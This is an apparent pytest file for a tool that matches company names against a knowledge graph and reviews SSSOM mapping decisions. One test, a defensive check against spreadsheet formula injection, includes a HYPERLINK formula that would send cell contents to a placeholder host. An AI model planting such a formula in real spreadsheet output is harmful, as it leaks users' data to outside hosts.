"""Names are held against the graph: what is one is found, what is two stays two."""

import csv
import json
import random
import shutil
import subprocess
import sys
from collections import Counter
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import pyoxigraph as ox
import pytest

import registers
from clusterkg import fit, source, sssom
from clusterkg.errors import RefusedError, UnreadableError, UsageError
from clusterkg.importing import decisions
from clusterkg.importing.decisions import Order
from clusterkg.matching import bulk, crew, decision, draft, fact, judge, proposal, subject, table
from clusterkg.matching.glance import Glance
from clusterkg.matching.name import Name
from clusterkg.matching.proposal import Candidate, Ground
from clusterkg.matching.sweep import Sweep
from clusterkg.matching.vocabulary import terms
from conftest import Requires

COLUMN = "企业名称"


@pytest.fixture(scope="module")
def ground() -> Ground:
    return registers.ground()


def swept(ground: Ground, *names: str, code: str = "", place: str = "") -> list[list[Candidate]]:
    asked = [ground.asked(name, code, place) for name in names]
    (among,) = terms("among")
    found = Sweep(asked, ground.places).over(ground.index, ground.reader, among)
    return proposal.weigh(asked, found, ground)


def best(ground: Ground, name: str, code: str = "", place: str = "") -> Candidate:
    return swept(ground, name, code=code, place=place)[0][0]


# -- names -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(("text", "core", "places", "is_whole"), [
    ("重庆宗申动力机械股份有限公司", "宗申动力机械", ("重庆",), True),
    ("重庆市巴南区宗申动力", "宗申动力", ("重庆市", "巴南区"), False),
    ("重庆吉力芸峰实业（集团）有限公司", "吉力芸峰实业", ("重庆",), True),
    ("ＺＯＮＧＳＨＥＮ Power Co., Ltd.", ("zongshen", "power"), (), True),
    ("PT Astra Otoparts Tbk", ("astra", "otoparts"), (), True),
    ("Cisco Systems", ("cisco", "systems"), (), False),
    ("天能股份", "天能", (), False), ("长安汽车", "长安汽车", (), False),
    ("*ST猛狮", "猛狮", (), False), ("有限公司", "", (), True), ("", "", (), False),
    ("!!!", "", (), False), ("重庆", "重庆", (), False)])
def test_a_name_is_taken_apart(text: str, core: str | tuple[str, ...], places: tuple[str, ...],
                               is_whole: bool, ground: Ground) -> None:
    name = ground.reader.read(text)
    assert (name.core, name.places, name.is_whole) == (core, places, is_whole)


def test_a_brand_that_is_a_place_is_both(ground: Ground) -> None:
    name = ground.reader.read("长安汽车制造")
    assert [one.core for one in name.readings()] == ["长安汽车制造", "汽车制造"]


def judged(ground: Ground, one: str, other: str) -> judge.Verdict:
    return judge.names(ground.reader.read(one), ground.reader.read(other))


@pytest.mark.parametrize(("one", "other", "is_likely"), [
    ("重庆宗申动力机械股份有限公司", "重庆宗申动力机械有限公司", True),
    ("重庆宗申动力机械股份有限公司", "宗申动力", True),
    ("宗申动力", "宗申航发", False),
    ("重庆宗申动力机械股份有限公司", "重庆宗申航空发动机制造有限公司", False),
    ("重庆宗申航空发动机制造有限公司", "宗申航发", True),
    ("重庆宗申集团有限公司", "重庆宗申有限公司", False),
    ("重庆华信机械有限公司", "重庆华信机械有限公司成都分公司", False),
    ("重庆美利信科技有限公司", "重庆美利信科技（大连）有限公司", False),
    ("重庆青山工业有限公司", "重庆青山实业有限公司", False),
    ("三角***份限公司", "三角轮胎股份有限公司", False), ("***", "***", False),
    ("Zongshen Power", "Zongshen Power Co Ltd", True), ("Cisco", "Cis", False),
    # groups and their members
    ("宗申集团", "宗申集团股份有限公司", True), ("宗申集团", "宗申股份有限公司", False),
    ("宗申集团有限公司", "宗申集团股份有限公司", True), ("宗申", "宗申股份有限公司", True),
    ("潍柴动力", "潍柴重机股份有限公司", False), ("三一重工", "三一重机有限公司", False),
    ("中国石油", "中国石化", False),
    # branches, and what is numbered
    ("宗申动力", "重庆宗申动力机械股份有限公司北京分公司", False),
    ("重庆宗申动力机械股份有限公司", "重庆宗申动力机械股份有限公司北京分公司", False),
    ("重庆宗申动力机械（北京）分公司", "重庆宗申动力机械北京分公司", True),
    ("重庆华信机械第一分公司", "重庆华信机械第二分公司", False),
    ("重庆第一机床厂", "重庆第二机床厂", False), ("重庆鑫源1号机械", "重庆鑫源2号机械", False),
    # what a place says, and what it is
    ("华信机械（重庆）有限公司", "华信机械（成都）有限公司", False),
    ("重庆", "重庆有限公司", False), ("巴南", "巴南区", False),
    # spellings: full width, traditional
    ("重庆（宗申）动力", "重庆(宗申)动力", True), ("ＡＢＢ 有限公司", "abb有限公司", True),
    ("重慶宗申動力機械股份有限公司", "重庆宗申动力机械股份有限公司", True),
    ("長安汽車", "重庆长安汽车股份有限公司", True),
    # names of three letters, and of persons
    ("王老五", "王老吉", False), ("比亚迪", "比亚迪股份有限公司", True),
    ("张小面馆（个体工商户）", "巴南区张小面馆", True),
    ("巴南区张小面馆", "巴南区李小面馆", False)])
def test_what_is_two_stays_two(one: str, other: str, is_likely: bool, ground: Ground) -> None:
    assert judged(ground, one, other).is_likely == is_likely
    assert judged(ground, other, one).is_likely == is_likely


def test_likeness_has_no_direction(ground: Ground) -> None:
    chance = random.Random(5)
    texts = [one.name for one in registers.firms()[:150]] + [one.text for one in registers.named()]
    for _ in range(3000):
        one, other = chance.choice(texts), chance.choice(texts)
        assert judged(ground, one, other) == judged(ground, other, one)


# -- against a graph -------------------------------------------------------------------------------


def test_masked_letters_match_nothing(ground: Ground) -> None:
    firm = registers.firms()[0]
    masked = [f"{firm.name[2:5]}***份限公司", "三角***份限公司", "***有限公司",
              "重庆**动力有限公司", firm.name[:-3] + "＊＊＊"]
    assert swept(ground, *masked) == [[]] * len(masked)
    assert best(ground, masked[0], code=firm.code).iri == firm.iri


def test_firms_of_one_group_stay_two(ground: Ground) -> None:
    power, aero = f"{registers.ENT}x-power", f"{registers.ENT}x-aero"
    for name, meant, other in (("宗申动力", power, aero), ("宗申航发", aero, power),
                               ("Zongshen Power", power, aero)):
        first, *rest = swept(ground, name)[0]
        assert (first.iri, first.verdict.is_likely) == (meant, True)
        assert {one.iri: one.verdict.reasons for one in rest}[other] == (judge.GROUP,)


def test_a_short_label_is_held_against_all_whole_names(ground: Ground) -> None:
    # Others of the group come before it, and do not keep it from being seen.
    (found,) = swept(ground, "重庆宗申航空发动机制造有限公司")
    assert (found[0].iri, found[0].label) == (f"{registers.ENT}x-aero", "宗申航发")


def test_traditional_letters_mean_the_same(ground: Ground) -> None:
    glance = Glance(ground.index, ground.reader, ground.places, terms("among"))
    for text in ("重慶宗申動力機械股份有限公司", "宗申動力"):
        asked = ground.asked(text)
        (seen,) = proposal.weigh([asked], [glance.at(asked)], ground)
        assert swept(ground, text)[0][0].iri == seen[0].iri == f"{registers.ENT}x-power"


def test_how_many_take_part_changes_nothing(ground: Ground,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    told = [(one.text, one.code, one.place) for one in registers.named()]
    alone = crew.propose(told, ground)
    monkeypatch.setattr(crew, "_MANY", 0)
    monkeypatch.setattr(crew, "_workers", lambda: 2)
    assert crew.propose(told, ground) == alone


def test_tables_say_what_the_store_says(ground: Ground) -> None:
    iris = {firm.iri for firm in registers.firms()} | {f"{registers.ENT}x-north", "urn:unknown"}
    said, stored = (bulk.entries(iris, ground.index.path.parent),
                    fact.entries(iris, ground.source))
    assert said.keys() == stored.keys() == iris - {"urn:unknown"}
    for iri, one in stored.items():
        other = said[iri]
        assert (one.codes, one.places, one.types) == (other.codes, other.places, other.types)
        assert sorted(map(str, one.names)) == sorted(map(str, other.names))
        assert sorted(map(str, one.others)) == sorted(map(str, other.others))


def test_what_is_kept_of_many_lies_where_the_name_does(ground: Ground) -> None:
    asked = [ground.asked("重庆市宗申甲轴承有限公司")]
    names = [f"成都市宗申{one}轴承有限公司" for one in "乙丙丁戊己庚辛壬癸子丑寅卯辰巳午"]
    sweep = Sweep(asked, ground.places)
    listing = Listing([*names, "重庆宗申未轴承有限公司"])
    (found,) = sweep.over(listing, ground.reader, "")  # type: ignore[arg-type]  # stands in
    assert str(len(names) + 1) in found


def test_one_name_in_two_counties_stays_two(ground: Ground) -> None:
    north, south = f"{registers.ENT}x-north", f"{registers.ENT}x-south"
    (both,) = swept(ground, "锦带机械厂")
    assert {one.iri for one in both if one.verdict.is_likely} == {north, south}
    assert not proposal.is_certain(both)
    for place, meant in (("重庆市江北区", north), ("浙江省宁波市江北区", south), ("500105", north)):
        (some,) = swept(ground, "锦带机械厂", place=place)
        assert (some[0].iri, proposal.is_certain(some)) == (meant, True)
    (unsettled,) = swept(ground, "锦带机械厂", place="江北区")  # there are two of that name
    assert not proposal.is_certain(unsettled)


def test_a_former_name_leads_to_what_bore_it(ground: Ground) -> None:
    found = best(ground, "松针农具社")
    assert (found.iri, found.verdict.reasons[0]) == (f"{registers.ENT}x-north", judge.OTHER_NAME)


def test_a_code_says_more_than_a_name(ground: Ground) -> None:
    firm, other = registers.firms()[:2]
    code = f" {firm.code.lower()} "
    for name in (firm.name, "Some Other Letters Ltd", f"{firm.name[:3]}***", ""):
        found = best(ground, name, code=code)
        assert (found.iri, found.verdict.score) == (firm.iri, 1.0)
    # The name of another speaks against it: first, but for somebody to look at.
    found = best(ground, other.name, code=code)
    assert found.iri == firm.iri
    assert {judge.SAME_CODE, judge.OTHERWISE} <= set(found.verdict.reasons)
    assert not proposal.is_certain(swept(ground, other.name, code=code)[0])
    assert all(not one.verdict.is_likely for one in swept(ground, other.name,
                                                          code=firm.code)[0][1:])
    unknown = swept(ground, firm.name, code="91500113000000000X")[0]
    assert [judge.OTHER_CODE in one.verdict.reasons for one in unknown[:1]] == [True]
    assert not unknown[0].verdict.is_likely


@pytest.mark.parametrize(("one", "other", "is_certain"), [
    ("重庆例一机械股份有限公司", "重庆例一机械有限公司", False),
    ("例一机械股份", "例一机械有限公司", False),
    ("Example One Inc.", "Example One GmbH", False),
    ("重庆例一机械有限责任公司", "重庆例一机械有限公司", True),
    ("例一机械股份", "例一机械股份有限公司", True), ("例一机械", "例一机械有限公司", True),
    ("Example One Co., Ltd.", "Example One Limited", True),
    ("PT Astra Otoparts Tbk", "PT Astra Otoparts", True)])
def test_another_legal_form_is_looked_at(one: str, other: str, is_certain: bool,
                                         ground: Ground) -> None:
    for verdict in (judged(ground, one, other), judged(ground, other, one)):
        assert verdict.is_likely
        assert (judge.OTHER_FORM in verdict.reasons) != is_certain
        # A place that agrees makes nothing certain that was not.
        assert (verdict.score >= judge.CERTAIN) == is_certain
        assert (judge.places(verdict, agree=True).score >= judge.CERTAIN) == is_certain


def test_a_code_and_a_name_that_contradict_are_shown(ground: Ground, tmp_path: Path) -> None:
    firm, other = registers.firms()[:2]
    path = listed(tmp_path, [(other.name, firm.code, ""), (firm.name, firm.code, "")])
    found = draft.propose(table.read(path, table.Columns(COLUMN, "代码", "地区")), ground)
    assert (found.contradicted, found.known, found.names) == (1, 1, 2)
    first, *rest = [one for one in found.rows if one["subject_label"] == other.name]
    assert first["object_id"] == "sssom:NoTermFound"
    assert judge.OTHERWISE in first["comment"]
    assert firm.name in first["comment"]
    assert other.name in {one["object_label"] for one in rest}
    assert len(found.rows) == 1 + len(rest)


def test_a_place_speaks_for_and_against(ground: Ground) -> None:
    here = best(ground, "宗申动力机械", place="重庆市巴南区")
    there = best(ground, "宗申动力机械", place="四川省成都市")
    assert judge.SAME_PLACE in here.verdict.reasons
    assert judge.OTHER_PLACE in there.verdict.reasons
    assert here.verdict.is_likely
    assert not there.verdict.is_likely


def counted(found: Sequence[Sequence[Candidate]]) -> Counter[str]:
    """Count how names come out against what they mean."""
    numbers = Counter[str]()
    for one, some in zip(registers.named(), found, strict=True):
        likely = [each.iri for each in some if each.verdict.is_likely][:3]
        numbers["meant"] += bool(one.meant)
        numbers["found"] += bool(one.meant) and one.meant in likely
        numbers["proposed"] += bool(likely)
        numbers["right"] += likely[:1] == [one.meant]
        numbers["certain"] += proposal.is_certain(some)
        numbers["wrongly certain"] += proposal.is_certain(some) and some[0].iri != one.meant
        numbers[f"falsely: {one.kind}"] += bool(likely) and not one.meant
    return numbers


@pytest.mark.parametrize("way", ["sweep", "glance"])
def test_most_are_found_and_few_are_wrong(way: str, ground: Ground) -> None:
    asked = [ground.asked(one.text, one.code, one.place) for one in registers.named()]
    glance = Glance(ground.index, ground.reader, ground.places, terms("among"))
    found = (Sweep(asked, ground.places).over(ground.index, ground.reader, terms("among")[0])
             if way == "sweep" else [glance.at(one) for one in asked])
    numbers = counted(proposal.weigh(asked, found, ground))
    # A name that is quite new is found by nobody: of the 160 with a meaning some ten are.
    assert numbers["found"] >= 0.85 * numbers["meant"], numbers
    assert numbers["right"] >= 0.93 * numbers["proposed"], numbers
    assert numbers["certain"] > 40
    assert numbers["wrongly certain"] == 0
    assert numbers["falsely: masked"] == 0


class Listing:
    """An index of names alone; their numbers are the IRIs."""

    def __init__(self, names: Sequence[str]):
        self._rows = [(number, fit.normalise(name), number) for number, name in enumerate(names, 1)]
        self.total = len(names)

    def rows(self, select: str, *values: int, most: int = -1) -> list[tuple[Any, ...]]:
        if "FROM resource" in select:
            return [(number, str(number)) for number, _, _ in self._rows]
        low, high = values[:2]
        return self._rows[low:high][:most if most > 0 else None]


def test_real_short_names_find_their_companies(requires: Requires, ground: Ground) -> None:
    # 4,654 listed companies with their names at the exchange; some companies are there twice.
    file = requires.shared("data") / "chain-knowledge-graph" / "company.jsonl"
    rows = [json.loads(line) for line in file.read_text(encoding="utf-8").splitlines()]
    whole = [row["fullname"] for row in rows]
    asked = [ground.asked(row["name"]) for row in rows]
    sweep = Sweep(asked, ground.places)
    found = sweep.over(Listing(whole), ground.reader, "")  # type: ignore[arg-type]  # stands in
    numbers, places = Counter[str](), ground.places
    for one, some, row in zip(asked, found, rows, strict=True):
        area = places.around(places.meant(one.name.places))
        weighed = {whole[int(iri) - 1]: judge.places(verdict, agree=places.met(places.meant(
            ground.reader.read(whole[int(iri) - 1]).places), area))
            for iri, verdict in some.items()}
        likely = sorted((name for name, verdict in weighed.items() if verdict.is_likely),
                        key=lambda name: -weighed[name].score)
        certain = [name for name in likely if weighed[name].score >= judge.CERTAIN]
        numbers["found"] += row["fullname"] in likely[:3]
        numbers["proposed"] += bool(likely)
        numbers["right"] += likely[:1] == [row["fullname"]]
        numbers["certain"] += len(certain) == 1
        numbers["wrongly certain"] += len(certain) == 1 and certain != [row["fullname"]]
    assert numbers["found"] > 0.87 * len(rows), numbers  # measured: 0.89
    assert numbers["right"] > 0.94 * numbers["proposed"], numbers  # measured: 0.96
    assert numbers["certain"] > 700, numbers
    assert numbers["wrongly certain"] <= 4, numbers  # these bear the name since, or bore it before


# -- tables, proposals, decisions ------------------------------------------------------------------


def listed(folder: Path, rows: Sequence[Sequence[str]],
           columns: Sequence[str] = (COLUMN, "代码", "地区")) -> Path:
    path = folder / "list.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(columns)
        writer.writerows(rows)
    return path


def run(*arguments: str) -> tuple[int, str, str]:
    done = subprocess.run([sys.executable, "-m", "clusterkg", "match", *arguments],
                          capture_output=True, text=True, timeout=300, check=False)
    return done.returncode, done.stdout, done.stderr


def test_each_name_is_read_once_with_its_first_row(tmp_path: Path) -> None:
    path = listed(tmp_path, [("甲", "", ""), ("", "", ""), ("乙", "1", ""), ("甲", "", ""),
                             ("乙", "", "")])
    found = table.read(path, table.Columns(COLUMN, "代码", "地区"))
    assert [(one.name, one.code, one.address) for one in found.lines] == [
        ("甲", "", "list.csv!2"), ("乙", "1", "list.csv!4"), ("乙", "", "list.csv!6")]
    assert (found.read, found.named, found.empty, found.refused) == (5, 4, 1, 0)


@pytest.mark.parametrize("columns", [table.Columns("不在"), table.Columns(""),
                                     table.Columns(COLUMN, code="不在")])
def test_a_column_has_to_be_there(columns: table.Columns, tmp_path: Path) -> None:
    with pytest.raises(UsageError):
        table.read(listed(tmp_path, [("甲", "", "")]), columns)


def test_the_summary_adds_up(ground: Ground, tmp_path: Path) -> None:
    path = listed(tmp_path, [(one.text, one.code, one.place) for one in registers.named()])
    names = table.read(path, table.Columns(COLUMN, "代码", "地区"))
    found = draft.propose(names, ground)
    assert found.names == len(names.lines) == (
        found.certain + found.likely + found.none + found.masked + found.known
        + found.contradicted)
    assert found.contradicted == sum(one.kind == "renamed, with its code"
                                     for one in registers.named())
    assert {row["subject_source_row"] for row in found.rows} == {
        one.address for one in names.lines} - {
            one.address for one in names.lines
            if one.code and one.name in {firm.name for firm in registers.firms()}}


def _all() -> set[str]:
    return {one.iri for one in registers.firms()}


def test_the_key_of_a_name_is_that_of_the_data(ground: Ground) -> None:
    # The keys of `data/entities.ttl` were made by hand of what the documents call each.
    assert subject.of("x", "91500113MA5U6PQ00X", "", ground.places) == (
        "https://w3id.org/clusterkg/id/ent/91500113ma5u6pq00x")
    here = subject.of("Ｘ Co", "", "重庆市巴南区", ground.places)
    assert here == subject.of("x co", "", "巴南区", ground.places)
    assert here != subject.of("x co", "", "", ground.places)


def test_a_mapping_says_which_things_rows_are_about(ground: Ground, tmp_path: Path) -> None:
    # It takes spaces out of names, and makes keys otherwise than drafts do.
    path = listed(tmp_path, [("宗 申 动力", "", "巴南区"), ("宗申动力", "", ""), ("甲***", "", "")])
    mapping = tmp_path / "m.json"
    mapping.write_text(json.dumps({
        "@context": "http://www.w3.org/ns/csvw", "url": "list.csv",
        "ckg:mint": {"namespace": "ent", "else": ["name"]},
        "tableSchema": {"aboutUrl": "{+_iri}", "columns": [
            {"name": "name", "titles": COLUMN, "propertyUrl": "rdfs:label", "lang": "zh",
             "ckg:rules": ["unspaced"]}, {"name": "code", "titles": "代码"},
            {"name": "place", "titles": "地区"}]}}), encoding="utf-8")
    columns = table.Columns(COLUMN, place="地区")
    plain, by_it = table.read(path, columns), table.read(path, columns, table.Mapped(
        mapping, registers.folder()))
    assert [one.iri for one in plain.lines] == ["", "", ""]
    assert {one.iri for one in by_it.lines} == {subject.of("宗申动力", "", "", ground.places)}
    assert (by_it.named, by_it.refused) == (2, 1)
    assert "list.csv!A4: " in str(by_it)


def decided(path: Path, changes: Mapping[str, tuple[str, str]]) -> None:
    """Decide: by name and object, the predicate and its modifier."""
    sheet = sssom.read(path)
    rows = []
    for line, row in sheet.rows:
        predicate, modifier = changes.get(
            f"{row['subject_label']} {row['object_id']}", (row["predicate_id"], ""))
        rows.append((line, {**row, "predicate_id": predicate, "predicate_modifier": modifier}))
    path.write_text(sssom.write(sssom.Sheet(path, sheet.about, sheet.columns, rows)),
                    encoding="utf-8")


def dumped(folder: Path) -> set[str]:
    """Give what sources say and what follows, but not what describes them: sums and dates."""
    stored = ox.Store.read_only(str(source.version_of(folder) / "store"))
    return {str(quad) for quad in stored if isinstance(quad.graph_name, ox.NamedNode)
            and quad.graph_name.value != "https://w3id.org/clusterkg/id/graph/description"}


def test_a_list_is_matched_decided_applied_and_taken_back(tmp_path: Path) -> None:
    folder, review = tmp_path / "snapshot", tmp_path / "review.sssom.tsv"
    shutil.copytree(registers.folder(), folder)
    path = listed(tmp_path, [("宗申动力", "", ""), ("三角***份限公司", "", ""), ("", "", ""),
                             ("重庆宗申航空发动机制造有限公司", "", "")])
    asked = [str(path), "--column", COLUMN, "--snapshot", str(folder)]
    code, _, told = run(*asked, "-o", str(review))
    assert (code, "3 names" in told, "1 masked" in told) == (0, True, True)
    assert "read 4 = named 3 + empty 1 + refused 0" in told
    before = dumped(folder)

    decided(review, {"宗申动力 ent:x-power": ("skos:exactMatch", ""),
                     "重庆宗申航空发动机制造有限公司 ent:x-aero": ("skos:exactMatch", "Not")})
    code, told, error = run("--apply", str(review), "--snapshot", str(folder), "--author", "me")
    assert code == 0, error
    assert "0 kept, 2 new, 0 changed (1 the same, 1 not); decided by me" in told
    after = dumped(folder)
    assert after > before
    assert b"ManualMappingCuration" in (folder / "written" / "review.sssom.tsv").read_bytes()

    code, out, told = run(*asked)  # what was decided is not proposed again
    assert code == 0
    assert "1 in the graph already" in told, told
    assert "ent:x-power" not in [line.split("\t")[4] for line in out.splitlines()
                                 if line.startswith("ent:") and "宗申动力" in line.split("\t")[1]]
    assert not [line for line in out.splitlines() if "航空" in line and "ent:x-aero" in line]

    code, told, error = run("--undo", "review.sssom.tsv", "--snapshot", str(folder))
    assert code == 0, error
    assert dumped(folder) ^ before == set()


HEAD = ("#author_label: me\nsubject_id\tpredicate_id\tpredicate_modifier\tobject_id\t"
        "mapping_justification\n")


def row(subject_: str, object_: str, modifier: str = "", predicate: str = "skos:exactMatch",
        why: str = "semapv:ManualMappingCuration") -> str:
    return f"{subject_}\t{predicate}\t{modifier}\t{object_}\t{why}\n"


def sheet(path: Path, *rows: str, head: str = HEAD) -> sssom.Sheet:
    path.write_text(head + "".join(rows), encoding="utf-8")
    return decision.read(path)


def said(merged: decision.Merged) -> list[tuple[str, str, str, str]]:
    return [(each["subject_id"], each["predicate_id"], each["predicate_modifier"],
             each["object_id"]) for _, each in merged.sheet.rows]


def test_rounds_of_decisions_add_up(tmp_path: Path) -> None:
    first = sheet(tmp_path / "d.sssom.tsv", row("ent:a", "ent:b"), row("ent:c", "ent:d", "Not"),
                  row("ent:e", "ent:f", predicate="skos:broadMatch"),
                  row("ent:g", "ent:h", predicate="skos:closeMatch", why="semapv:LexicalMatching"))
    (tmp_path / "more").mkdir()
    second = sheet(tmp_path / "more/d.sssom.tsv", row("ent:a", "ent:b"), row("ent:g", "ent:h"),
                   row("ent:d", "ent:c", "Not"), row("ent:i", "ent:j", "Not"))
    before = decision.merge(first)
    assert (before.kept, before.new, before.changed) == (0, 2, 0)
    both = decision.merge(second, before.sheet)
    assert (both.kept, both.new, both.changed) == (2, 2, 0)
    assert said(both) == [
        ("ent:a", "skos:exactMatch", "", "ent:b"), ("ent:c", "skos:exactMatch", "Not", "ent:d"),
        ("ent:e", "skos:broadMatch", "", "ent:f"), ("ent:g", "skos:exactMatch", "", "ent:h"),
        ("ent:i", "skos:exactMatch", "Not", "ent:j")]
    for more in (first, second):
        again = decision.merge(more, both.sheet)
        assert (again.new, again.changed, again.sheet.rows) == (0, 0, both.sheet.rows)


@pytest.mark.parametrize("other", [row("ent:a", "ent:b", "Not"), row("ent:b", "ent:a"),
                                   row("ent:b", "ent:a", "Not")])
def test_who_contradicts_is_told_both_lines_and_asked(other: str, tmp_path: Path) -> None:
    before = decision.merge(sheet(tmp_path / "old.sssom.tsv", row("ent:x", "ent:y"),
                                  row("ent:a", "ent:b"))).sheet
    given = sheet(tmp_path / "new.sssom.tsv", row("ent:p", "ent:q"), other)
    with pytest.raises(UnreadableError, match=r"new\.sssom\.tsv:4: .*old\.sssom\.tsv:2 says"):
        decision.merge(given, before)
    merged = decision.merge(given, before, prefer=True)
    assert (merged.kept, merged.new, merged.changed) == (1, 1, 1)
    assert tuple(other.split("\t")[n] for n in (0, 1, 2, 3)) in said(merged)
    assert ("ent:a", "skos:exactMatch", "", "ent:b") not in said(merged)


def test_a_decision_needs_one_and_somebody(tmp_path: Path) -> None:
    path = tmp_path / "d.sssom.tsv"
    path.write_text(HEAD.replace("#author_label: me\n", "") + row("ent:a", "ent:b"))
    with pytest.raises(UnreadableError, match=r"nobody vouches.*--author"):
        decision.read(path)
    assert [one["author_label"] for _, one in decision.read(path, "she").rows] == ["she"]
    with pytest.raises(UsageError, match="nothing is decided"):
        sheet(path, row("ent:a", "ent:b", predicate="skos:closeMatch"))


def test_one_file_does_not_contradict_itself(tmp_path: Path) -> None:
    given = sheet(tmp_path / "d.sssom.tsv", row("ent:a", "ent:b"), row("ent:a", "ent:b", "Not"))
    for prefer in (False, True):
        with pytest.raises(UnreadableError, match=r"tsv:4: .*d\.sssom\.tsv:3 says otherwise"):
            decision.merge(given, prefer=prefer)


def test_one_prefix_may_mean_two_things(tmp_path: Path) -> None:
    heads = [f"#curie_map:\n#  ex: https://{host}.example/\n{HEAD}" for host in ("one", "two")]
    first, second = (sheet(tmp_path / f"{n}.sssom.tsv", row("ex:a", "ex:b"), head=head)
                     for n, head in enumerate(heads))
    merged = decision.merge(second, decision.merge(first).sheet)
    assert {(one.subject, one.object) for one in merged.sheet.decisions()} == {
        (f"https://{host}.example/a", f"https://{host}.example/b") for host in ("one", "two")}


def test_who_vouches_for_a_file_vouches_for_its_rows_alone(tmp_path: Path) -> None:
    first = sheet(tmp_path / "a.sssom.tsv", row("ent:a", "ent:b"),
                  head=HEAD.replace("#author_label: me", "#author_id:\n#- ent:who\n#- ent:she"))
    merged = decision.merge(sheet(tmp_path / "b.sssom.tsv", row("ent:c", "ent:d")),
                            decision.merge(first).sheet)
    assert [(each.get("author_id", ""), each.get("author_label", ""))
            for _, each in merged.sheet.rows] == [("ent:who|ent:she", ""), ("", "me")]
    assert "decided by ent:who|ent:she, me" in str(merged)


@pytest.mark.parametrize(("subject_", "object_", "what"), [
    ("ent:x-power", registers.firms()[0].iri, "codes: 915001130000000019"),
    ("ent:x-aero", "place:cn-500113", "classes")])
def test_what_cannot_be_one_is_refused(subject_: str, object_: str, what: str,
                                       tmp_path: Path) -> None:
    path = tmp_path / "bad.sssom.tsv"
    path.write_text(HEAD + row(subject_, object_), encoding="utf-8")
    with pytest.raises(RefusedError, match=rf"bad\.sssom\.tsv:3: .*{what}"):
        decisions.apply(Order(), path, registers.folder())
    assert not list((registers.folder() / "written").glob("*"))


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://x/?"&A1)', "@SUM(1)", "+1", "-2+3", "'=1", "''@x", "'quoted'", "plain",
    "＝1+1", "a=b"])
def test_no_name_runs_in_a_spreadsheet(text: str, tmp_path: Path) -> None:
    path = tmp_path / "d.sssom.tsv"
    columns = ["subject_id", "subject_label", "predicate_id", "object_id", "mapping_justification"]
    rows = [(1, {"subject_id": "ent:a", "subject_label": text, "predicate_id": "skos:closeMatch",
                 "object_id": "ent:b", "mapping_justification": "semapv:x", "comment": ""})]
    path.write_text(sssom.write(sssom.Sheet(path, {}, columns, rows)), encoding="utf-8")
    cells = path.read_text(encoding="utf-8").splitlines()[1].split("\t")
    assert all(cell[:1] not in {*"=+-@＝＋－＠"} for cell in cells)
    assert sssom.read(path).rows[0][1]["subject_label"] == text


def test_a_file_may_be_saved_by_a_spreadsheet(tmp_path: Path) -> None:
    path = tmp_path / "d.sssom.tsv"
    path.write_text('"#comment: ""a: b"""\t\t\t\t\n#author_label: me\t\t\t\t\n'
                    "subject_id\tsubject_label\tpredicate_id\tobject_id\tmapping_justification\t\n"
                    'ent:a\t"The ""A"" Works"\tskos:exactMatch\tent:b\tsemapv:x\t\n',
                    encoding="utf-8")
    found = sssom.read(path)
    assert found.about == {"comment": "a: b", "author_label": "me"}
    assert [one.label for one in found.decisions()] == ['The "A" Works']


@pytest.mark.parametrize(("column", "cell", "what"), [
    ("object_id", "", "2: two columns are called 'object_id'; rename one"),
    ("comment", "x" * 100_001, "3: this row cannot be cut into cells .*; write short texts"),
    ("comment", "a\tb", "3: 7 cells under 6 columns; take out the tabs")])
def test_a_file_that_cannot_be_read_is_told_with_what_to_do(column: str, cell: str, what: str,
                                                           tmp_path: Path) -> None:
    path = tmp_path / "d.sssom.tsv"
    path.write_text("#author_label: me\nsubject_id\tsubject_label\tpredicate_id\tobject_id\t"
                    f"mapping_justification\t{column}\nent:a\tA\tskos:exactMatch\tent:b\t"
                    f"semapv:x\t{cell}\n", encoding="utf-8")
    with pytest.raises(UnreadableError, match=rf"tsv:{what}"):
        sssom.read(path)


def test_rows_that_cannot_be_read_are_told(tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_text(f"{COLUMN},b\n宗申动力,1\n,2\n甲,2,3\n宗申动力,4\n", encoding="utf-8")
    code, _, told = run(str(path), "--column", COLUMN, "--snapshot", str(registers.folder()))
    assert code == 1
    assert told.splitlines()[0] == "read 4 = named 2 + empty 1 + refused 1"
    assert told.splitlines()[1].startswith("  list.csv!4: ")


def test_without_a_table_it_says_how(tmp_path: Path) -> None:
    code, _, told = run("--snapshot", str(tmp_path))
    assert (code, "--column" in told) == (2, True)


def test_an_empty_name_says_nothing(ground: Ground) -> None:
    empty = Name("", "", "")
    assert judge.names(empty, empty) == judge.NOTHING
    assert swept(ground, "", "  ", "。。。") == [[], [], []]


def test_the_benchmark_says_what_it_measured(tmp_path: Path) -> None:
    script = Path(__file__).parents[1] / "benchmarks" / "matching.py"
    done = subprocess.run([sys.executable, script, "--entries", "300", "--served", "300", "--names",
                           "60", "--work", tmp_path / "work", "--out", tmp_path],
                          capture_output=True, text=True, timeout=300, check=False)
    assert done.returncode in (0, 1), done.stderr  # a busy machine may be too slow
    found = json.loads((tmp_path / "matching.json").read_text(encoding="utf-8"))
    kinds = found["matched"]["kinds"]
    assert sum(counts["names"] for kind, counts in kinds.items() if kind != "all") == 60
    assert kinds["same"]["right"] == kinds["same"]["meant"] == kinds["same"]["names"]
    assert kinds["masked"]["proposed"] == 0
    assert len(found["batches"]) > 10
    told = (tmp_path / "MATCHING.md").read_text(encoding="utf-8")
    assert f"| same | {kinds['same']['names']} | {kinds['same']['names']} | 100.0% |" in told
